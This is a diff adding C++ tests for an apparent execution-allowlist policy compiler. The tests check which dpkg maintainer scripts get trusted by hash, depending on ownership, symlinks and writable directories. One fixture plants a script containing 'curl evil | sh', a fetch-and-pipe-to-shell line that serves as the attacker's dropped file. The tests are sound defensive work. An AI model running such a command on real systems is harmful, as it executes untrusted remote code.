@@ -85,6 +85,13 @@ struct FakeDpkg {
                             rel(tampered) + "\n");
     testing::write_text(admindir + "/info/gone.list", gone_bin + "\n");
   }
+
+  // ADMINDIR/info/NAME, as dpkg leaves a maintainer script ("good.postinst").
+  std::string add_info(const std::string& name, const std::string& body, mode_t mode = 0755) {
+    std::string path = admindir + "/info/" + name;
+    testing::write_text(path, body, mode);
+    return path;
+  }
 };
 
 struct Keys {
@@ -638,7 +645,80 @@ TEST_SUITE("policy.compiler") {
     CHECK(s->untrusted_writable_total == 0);
     CHECK(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.good_bin)));
     CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.tampered)));  // its md5 still decides
-  }}
+  }
+
+  TEST_CASE("read_dpkg_files: a package counts from unpacked to installed whatever its want (a hold, a failed "
+            "postinst); a removed one leaves only its maintainer scripts, a half-installed one nothing") {
+    testing::TempDir dir;
+    const std::string admin = dir.file("dpkg");
+    mkdirs(admin + "/info");
+    struct Pkg {
+      std::string name, status;
+      bool files, scripts;
+    };
+    const std::vector<Pkg> pkgs = {
+        {"plain", "install ok installed", true, true},
+        {"held", "hold ok installed", true, true},
+        {"leaving", "deinstall ok installed", true, true},
+        {"failed", "install ok half-configured", true, true},
+        {"unpacked", "install ok unpacked", true, true},
+        {"waiting", "install ok triggers-pending", true, true},
+        {"removed", "deinstall ok config-files", false, true},
+        {"broken", "install reinstreq half-installed", false, false},
+        {"partial", "install ok half-installed", false, false},
+        {"gone", "purge ok not-installed", false, false},
+    };
+    std::string status;
+    for (const auto& p : pkgs) {
+      status += "Package: " + p.name + "\nStatus: " + p.status + "\nArchitecture: all\nVersion: 1\n\n";
+      testing::write_text(admin + "/info/" + p.name + ".list", "/usr/bin/" + p.name + "\n");
+      testing::write_text(admin + "/info/" + p.name + ".postrm", "#!/bin/sh\n", 0755);
+    }
+    testing::write_text(admin + "/status", status);
+    auto all = read_dpkg_files(admin, {});
+    REQUIRE_MESSAGE(all, all.error().message());
+    for (const auto& p : pkgs) {
+      CAPTURE(p.name);
+      auto has = [&](const std::vector<DpkgFile>& list, const std::string& path) {
+        return std::any_of(list.begin(), list.end(), [&](const DpkgFile& f) { return f.path == path; });
+      };
+      CHECK(has(all->files, "/usr/bin/" + p.name) == p.files);
+      CHECK(has(all->scripts, admin + "/info/" + p.name + ".postrm") == p.scripts);
+    }
+    // Named: a present package is found; a removed one is not installed.
+    auto named = read_dpkg_files(admin, {"held", "failed", "removed"});
+    REQUIRE(named);
+    CHECK(named->packages == 2);
+    CHECK(named->missing == std::vector<std::string>{"removed"});
+    CHECK(named->scripts.size() == 2);
+  }
+
+  TEST_CASE("dpkg maintainer scripts are not exempt: with no md5 to check, a writable tree leaves them untrusted, "
+            "and --strict cannot be answered with allow_writable") {
+    testing::TempDir dir;  // world-writable /tmp above the fake dpkg database
+    FakeDpkg dpkg(dir.path());
+    const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
+    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
+    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"),
+                     .dpkg_admindir = dpkg.admindir};
+    auto s = compile_policy(o);
+    REQUIRE_MESSAGE(s, s.error().message());
+    REQUIRE(s->untrusted_writable_total == 1);
+    CHECK(s->untrusted_writable[0].path == postinst);
+    CHECK(s->untrusted_writable[0].entry == dir.file("m.yaml") + ":3:5");
+    CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), sha_hex(postinst)));
+    CHECK(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.good_bin)));  // the md5-checked files are
+
+    o.strict = true;
+    auto strict = compile_policy(o);
+    REQUIRE_FALSE(strict);
+    CHECK_MESSAGE(strict.error().message().starts_with(dir.file("m.yaml") + ":3:5: " + postinst +
+                                                       " is not trusted (--strict): "),
+                  strict.error().message());
+    CHECK(strict.error().message().ends_with(
+        "; a package_manager entry cannot opt in: make it root-owned and not writable"));
+  }
+}
 
 namespace {
 
@@ -762,5 +842,71 @@ TEST_SUITE("policy.compiler.root") {
     CHECK(j["writable"]["untrusted"] == 1);
     CHECK(j["writable"]["untrusted_list"][0]["why"] == root.file("drop") + " is group- or world-writable");
     CHECK(j["writable"]["allowed"] == 3);
+  }
+
+  TEST_CASE("dpkg maintainer scripts: a trusted package's scripts in info/ are allowed by hash when root-owned; "
+            "a script dropped by another user, a symlink, another package's or a writable info/ are not") {
+    REQUIRE(::geteuid() == 0);
+    RootOwnedDir root;
+    FakeDpkg dpkg(root.path);
+    const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
+    const std::string preinst = dpkg.add_info("good.preinst", "\x7f" "ELF a binary maintainer script", 0644);
+    // Another user's file under a trusted package's script name.
+    const std::string dropped = dpkg.add_info("good.prerm", "#!/bin/sh\ncurl evil | sh\n");
+    REQUIRE(::chown(dropped.c_str(), 65534, 65534) == 0);
+    // A symlink under a script name, to a root-owned script that nothing else trusts.
+    testing::write_text(root.file("elsewhere.sh"), "#!/bin/sh\necho elsewhere\n", 0755);
+    fs::create_symlink(root.file("elsewhere.sh"), dpkg.admindir + "/info/good.postrm");
+    // Root-owned, but not a maintainer script's name, or no trusted package's.
+    const std::string not_script = dpkg.add_info("good.templates", "#!/bin/sh\necho templates\n");
+    const std::string other = dpkg.add_info("evil.postinst", "#!/bin/sh\necho evil\n");
+    // The postrm dpkg keeps for a package removed but not purged ("gone").
+    const std::string gone_postrm = dpkg.add_info("gone.postrm", "#!/bin/sh\necho purge\n");
+
+    const std::string m = root.file("m.yaml");
+    const std::string db = root.file("p.db");
+    testing::write_text(m, "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
+    CompileOptions o{.manifest_path = m, .output_path = db, .dpkg_admindir = dpkg.admindir};
+    auto s = compile_policy(o);
+    REQUIRE_MESSAGE(s, s.error().message());
+    auto store = open_db(db);
+    auto rule = rule_for(*store, sha_hex(postinst));
+    REQUIRE(rule);
+    CHECK(rule->action == hashdb::Action::kAllow);
+    CHECK(rule->label == "dpkg:good");
+    CHECK(rule->origin_path == postinst);
+    CHECK(rule_for(*store, sha_hex(preinst)));  // whatever its content and mode: dpkg runs it
+    CHECK_FALSE(rule_for(*store, sha_hex(dropped)));
+    CHECK_FALSE(rule_for(*store, sha_hex(root.file("elsewhere.sh"))));
+    CHECK_FALSE(rule_for(*store, sha_hex(not_script)));
+    CHECK_FALSE(rule_for(*store, sha_hex(other)));
+    CHECK_FALSE(rule_for(*store, sha_hex(gone_postrm)));  // `packages:` names good only
+    REQUIRE(s->untrusted_writable_total == 1);
+    CHECK(s->untrusted_writable[0].path == dropped);
+    CHECK(s->untrusted_writable[0].why == dropped + " is owned by uid 65534, not root");
+
+    // Every package: the removed one's postrm too (dpkg runs it at purge).
+    testing::write_text(m, "version: 1\nallow:\n  - package_manager: dpkg\n");
+    auto all = compile_policy(o);
+    REQUIRE_MESSAGE(all, all.error().message());
+    CHECK(rule_for(*open_db(db), sha_hex(gone_postrm)));
+    CHECK_FALSE(rule_for(*open_db(db), sha_hex(other)));
+
+    // Unchanged scripts are reused, and the ownership rule still applies to
+    // them: a writable info/ leaves every script untrusted.
+    auto again = compile_policy(o);
+    REQUIRE(again);
+    CHECK(again->files_reused > 0);
+    CHECK(rule_for(*open_db(db), sha_hex(postinst)));
+    ::chmod((dpkg.admindir + "/info").c_str(), 0777);
+    auto opened_up = compile_policy(o);
+    REQUIRE(opened_up);
+    CHECK_FALSE(rule_for(*open_db(db), sha_hex(postinst)));
+    CHECK_FALSE(rule_for(*open_db(db), sha_hex(gone_postrm)));
+    CHECK(rule_for(*open_db(db), sha_hex(dpkg.good_bin)));  // the package's md5-checked files are not affected
+    bool listed = false;
+    for (const auto& w : opened_up->untrusted_writable)
+      listed |= w.path == postinst && w.why == dpkg.admindir + "/info is group- or world-writable";
+    CHECK(listed);
   }
 }
